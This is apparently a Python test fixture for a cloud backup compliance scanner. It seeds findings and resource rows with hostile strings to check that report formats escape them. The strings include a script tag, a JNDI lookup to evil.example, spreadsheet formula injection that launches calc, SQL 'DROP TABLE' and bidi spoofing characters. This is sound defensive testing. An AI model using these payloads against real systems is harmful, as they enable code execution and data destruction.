"""Values that somebody may have put into a tag, a name or a message: what every format must keep text."""

from collections.abc import Iterator
from dataclasses import replace
from typing import Any, Final

from scanner.model.decisions import Waiver
from scanner.model.finding import Finding, Status
from scanner.model.known import EvidenceRef
from scanner.model.scan import Row, Scan
from scanner.model.text import mended

LONG: Final = "x" * 5_000

HOSTILE: Final = (
    "<script>alert('x')</script>",
    "]]><!-- --><x/>&amp;&lt;&#10;",
    "a|b|c `code` ``` *bold* _low_ [link](javascript:alert(1)) ![i](http://evil.example/i.png)",
    "@octocat and @org/team, #12, GH-34, owner/repo#5, :skull:, http://evil.example, www.evil.example",
    "someone@evil.example",
    "first\nsecond\r\n# third\n- fourth\n\n    fifth\n```\nsixth",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200b\ufeff\u00ad",
    "\u05de\u05e2\u05e8\u05db\u05ea \u0646\u0633\u062e\u0629 \U0001f4be\U0001f9ca\U0001f468\u200d\U0001f469",
    "\x00\x01\x08\x0b\x0c\x1b[31m\x7f\x85\ufffe\uffff",
    "half \ud83d of a character \udc00",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    "{0} {x} {{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example}",
    "'; DROP TABLE findings; --",
    '"quoted", and; =1+1',
    LONG,
    "\U0001f4be" * 1_250,
)

WAIVER: Final = Waiver("W-<1>", "owner|x", "@boss", "Lives with it.\n# Really?", "2030-01-31")


def hostile_findings(control: str, like: Finding) -> Iterator[Finding]:
    """Give a finding of every status for every hostile value, which stands wherever AWS or people write."""
    for number, text in enumerate(HOSTILE):
        for status in Status:
            yield replace(
                like,
                control=control,
                status=status,
                subject=f"arn:aws:s3:::{number:02}-{status.value}-{mended(text)}",
                subject_type="S3",
                reason=f"{text} is what it says.",
                details={
                    "name": text,
                    "tags": [{"key": text, "value": text}],
                    text: [text, None, {"a": text}],
                },
                evidence=(EvidenceRef("evidence/111111111111/eu-west-1.jsonl.gz", number + 1),),
                waiver=WAIVER if status is Status.WAIVED else None,
            )


def planted(scan: Scan) -> Scan:
    """Give a scan whose first control found something about hostile things, too."""
    like = next(iter(scan.findings))
    findings = [*scan.findings, *hostile_findings(like.control, like)]
    return replace(
        scan,
        findings=tuple(sorted(findings, key=lambda each: each.order)),
        resources=(*(scan.resources or ()), *hostile_resources(scan)),
    )


def hostile_resources(scan: Scan) -> Iterator[Row]:
    """Give a row of the population for each resource that the hostile findings are about."""
    like = next(iter(scan.findings))
    for finding in hostile_findings(like.control, like):
        text = finding.details["name"]
        point: dict[str, Any] = {"exists": False, "arn": None, "vault": None, "created_at": None}
        yield {
            "subject": finding.subject,
            "subject_type": finding.subject_type,
            "account": finding.account,
            "region": finding.region,
            "name": text,
            "covered": None,
            "newest_recovery_point": point,
            "not_applicable_because": "",
            "tags": [{"key": text, "value": text}],
        }
